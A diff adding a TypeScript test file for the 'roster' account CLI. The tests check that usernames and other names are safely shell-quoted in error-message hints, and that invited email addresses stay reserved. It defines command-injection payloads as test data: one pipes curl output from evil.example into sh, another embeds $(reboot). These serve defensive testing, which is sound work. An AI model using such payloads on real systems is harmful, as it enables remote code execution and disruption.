@@ -1,0 +1,52 @@
+import { groupCreate } from '../../src/operations/group/index.ts';
+import { meEdit } from '../../src/operations/me/index.ts';
+import { peopleAdd, peopleInvite } from '../../src/operations/people/index.ts';
+import { roleNew } from '../../src/operations/role/index.ts';
+import { serviceAccountCreate } from '../../src/operations/service-account/index.ts';
+import { tokenCreate, tokenRevoke } from '../../src/operations/token/index.ts';
+import { coreBox } from '../support/core.ts';
+import type { CoreBox } from '../support/core.ts';
+import { errorOf } from '../support/outside.ts';
+
+/** What somebody called themself or something does nothing to whoever pastes a hint, or writes to an address. */
+
+let box: CoreBox;
+let eve: string;
+beforeEach(async () => {
+  box = await coreBox();
+  await box.call(peopleAdd, { people: [{ email: 'eve@acme.example' }] });
+  eve = await box.tokenOf('eve');
+});
+afterEach(() => box.destroy());
+
+const HOSTILE = 'm;curl${IFS}evil.example|sh';
+const NAME = "it's $(reboot) `here`";
+const hintOf = async (work: Promise<unknown>): Promise<string | undefined> => (await errorOf(work))?.hint;
+
+test('a username in a hint is one word of the shell', async () => {
+  await box.call(meEdit, { username: HOSTILE, email: 'taken@acme.example' }, eve);
+  expect(await hintOf(box.call(peopleAdd, { people: [{ email: 'taken@acme.example' }] }))).toBe(
+    `roster people show '${HOSTILE}'`,
+  );
+  expect(await hintOf(box.call(tokenRevoke, { name: 'nothing', person: HOSTILE }))).toBe(
+    `roster token list --person '${HOSTILE}'`,
+  );
+});
+
+test.each<[string, () => Promise<unknown>, string]>([
+  ['group', () => box.call(groupCreate, { name: NAME }), 'roster group show '],
+  ['role', () => box.call(roleNew, { name: NAME, permissions: [] }), 'roster role show '],
+  ['service account', () => box.call(serviceAccountCreate, { name: NAME }), 'roster service-account show '],
+  ['token', () => box.call(tokenCreate, { name: NAME }), 'choose another name, or replace it: roster token reset '],
+])('the name of a %s is, too', async (_what, make, before) => {
+  await make();
+  expect(await hintOf(make())).toContain(`${before}'it'\\''s $(reboot) \`here\`'`);
+});
+
+test('nobody takes the address of somebody who is invited', async () => {
+  await box.call(peopleInvite, { people: [{ email: 'boss@acme.example' }], role: 'Admin' });
+  expect(await box.refusal(box.call(meEdit, { email: 'Boss@acme.example' }, eve))).toBe('conflict');
+  expect((await box.personOf('eve')).email).toBe('eve@acme.example');
+  box.clock.now += 8 * 24 * 60 * 60 * 1000;
+  expect((await box.call(meEdit, { email: 'boss@acme.example' }, eve)).email).toBe('boss@acme.example');
+});
